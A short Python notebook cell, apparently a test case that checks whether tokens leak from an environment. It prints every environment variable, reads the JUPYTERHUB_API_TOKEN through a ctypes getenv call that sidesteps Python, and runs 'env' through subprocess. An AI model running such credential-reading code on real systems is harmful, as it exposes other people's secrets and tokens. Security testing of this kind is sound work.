# attacks: tokens in the environment
# success: one is shown
# %% before
import ctypes
import os
import subprocess

print(dict(os.environ))
print(ctypes.c_char_p(ctypes.CDLL(None).getenv(b"JUPYTERHUB_API_TOKEN")))
try:
    print(subprocess.run(["env"], capture_output=True).stdout)
except OSError as _error:
    print(_error)
